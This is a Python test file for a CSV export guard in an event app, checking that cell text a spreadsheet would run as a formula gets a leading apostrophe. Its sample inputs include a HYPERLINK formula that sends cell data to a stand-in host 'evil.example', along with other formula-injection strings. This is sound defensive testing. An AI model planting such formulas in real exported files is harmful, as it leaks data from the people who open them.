"""A CSV export opened in a spreadsheet runs nothing: text a spreadsheet would read as a formula is
neutralised with a leading apostrophe (OWASP), numbers stay numbers."""

from __future__ import annotations

import csv

import pytest

from roundtable.domain.models import Participant
from roundtable.outcome.formula_guard import neutralise_formula
from roundtable.workspace import open_forum

from outcome_helpers import speak

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Agenda")',
    "=1+2",
    "+SUM(1;2)",
    "@cmd",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
]
NAMES = HOSTILE[:5]  # names are stripped of surrounding blanks when they are registered


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Bagdat Mussin", "", "2014-10-07T09:40:00", "'=already text", "a=b", 400, -2, 1.5, None])
def test_everything_else_is_left_as_it_is(value):
    assert neutralise_formula(value) == value


def test_the_speakers_csv_runs_nothing_when_opened(demo_dir, tmp_path, cli):
    programme = demo_dir / "gegf-2014.toml"
    programme.write_text(
        programme.read_text(encoding="utf-8").replace(
            'en = "Opening plenary: Smart Governance', 'en = "-1+Opening plenary: Smart Governance', 1
        ),
        encoding="utf-8",
    )
    forum = open_forum(programme)
    with forum.store:
        for minute, name in enumerate(NAMES, start=20):
            speak(forum.store, "gegf-2014", "D2-PLEN", Participant(name=name, organisation="@org", country="KZ"),
                  minute, seconds=30)
    out = tmp_path / "speakers.csv"
    assert cli("export", "--db", demo_dir / "gegf-2014.db", "--format", "csv", "--out", out).code == 0
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    hostile = [r for r in rows if r["speaker"].lstrip("'") in NAMES]
    assert sorted(r["speaker"] for r in hostile) == sorted("'" + name for name in NAMES)
    assert all(r["session_title"].startswith("'-1+Opening plenary") for r in rows if r["session_code"] == "D2-PLEN")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["duration_seconds"].isdigit()  # a number written as a number, not "'30"
    assert {r["duration_seconds"] for r in hostile} == {"30"}
